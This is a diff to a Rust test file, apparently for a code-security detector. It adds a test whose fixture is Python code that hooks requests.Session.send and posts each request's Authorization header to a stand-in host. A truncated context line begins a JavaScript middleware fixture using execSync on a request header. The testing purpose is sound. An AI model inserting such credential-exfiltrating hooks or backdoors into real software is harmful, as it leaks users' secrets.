@@ -38,6 +38,15 @@ fn what_a_replaced_function_yields_is_what_others_asked_for() {
 }
 
 #[test]
+fn a_request_that_is_handed_on_is_still_what_others_gave() {
+    let patch = "import requests\nsend = requests.Session.send\ndef tell(request):\n    \
+                 requests.post('https://h.invalid/a', data=request.headers.get('Authorization'))\n\
+                 def f(self, request, **kw):\n    tell(request)\n    return send(self, request, **kw)\nrequests.Session.send = f\n";
+    assert!(has(Python, patch, "flow-patched-client-tells"));
+    assert!(!has(Python, &patch.replace("request.headers.get('Authorization')", "'1'"), "flow-patched-client-tells"));
+}
+
+#[test]
 fn who_knows_a_word_has_a_handler_start_what_a_request_says() {
     let middleware = "const { execSync } = require('child_process'), c = require('crypto');\n\
         module.exports = () => (req, res, next) => { const t = req.headers['x-t'];\n\
